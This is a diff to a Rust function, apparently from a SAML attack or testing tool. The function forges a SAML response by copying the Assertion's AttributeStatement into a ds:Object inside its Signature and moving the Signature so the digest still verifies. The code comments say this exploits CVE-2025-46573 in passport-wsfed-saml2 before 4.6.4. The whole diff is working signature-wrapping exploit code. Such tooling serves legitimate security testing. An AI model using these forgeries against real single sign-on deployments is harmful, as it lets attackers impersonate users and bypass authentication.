@@ -214,30 +214,30 @@ pub fn subject_in_signature(f: &Forge) -> Result<Forged, Skip> {
     )
 }
 
-/// As [`subject_in_signature`], a forged copy of the Assertion's AttributeStatement: a reader
-/// that finds attributes by a descendant path (`.//AttributeStatement/Attribute`) takes the
-/// copy's claims, which come first (passport-wsfed-saml2 < 4.6.4, CVE-2025-46573).
+/// A forged copy of the Assertion's AttributeStatement in a `ds:Object` of the Assertion's
+/// own Signature, the Signature moved to the Assertion's end (the enveloped transform
+/// removes it wherever it sits, so the digest holds): a reader that fills a profile from
+/// `.//AttributeStatement/Attribute` in document order, the last of each name winning, takes
+/// the copy's claims (passport-wsfed-saml2 < 4.6.4, CVE-2025-46573).
 pub fn attributes_in_signature(f: &Forge) -> Result<Forged, Skip> {
     let doc = parse(f)?;
     let p = Parts::of(&doc)?;
     let sig = p.need_assertion_sig()?;
     let statement = child(p.assertion, ASSERTION_NS, "AttributeStatement")
         .ok_or_else(|| Skip::NotApplicable("the Assertion has no AttributeStatement".into()))?;
-    if sig.range().start > statement.range().start {
-        return Err(Skip::NotApplicable(
-            "the Signature follows the AttributeStatement, so a copy inside it would not be read first".into(),
-        ));
-    }
     let (copy, swap) =
         crate::mutate::copy_of(&doc, statement, true, crate::mutate::IdChange::Keep)?;
-    if swap.forged.is_empty() {
-        return Err(Skip::NotApplicable(
-            "the AttributeStatement carries no identity claim to forge".into(),
-        ));
-    }
-    let object = format!("<ds:Object xmlns:ds=\"{DSIG_NS}\">{copy}</ds:Object>");
+    let inner_end = before_end_tag(doc.src, sig);
+    let moved = format!(
+        "{}<ds:Object xmlns:ds=\"{DSIG_NS}\">{copy}</ds:Object>{}",
+        &doc.src[sig.range().start..inner_end],
+        &doc.src[inner_end..sig.range().end]
+    );
     forged(
-        p.splice_unsigned_response(vec![insert(before_end_tag(doc.src, sig), object)]),
+        p.splice_unsigned_response(vec![
+            (sig.range(), String::new()),
+            insert(before_end_tag(doc.src, p.assertion), moved),
+        ]),
         swap,
     )
 }
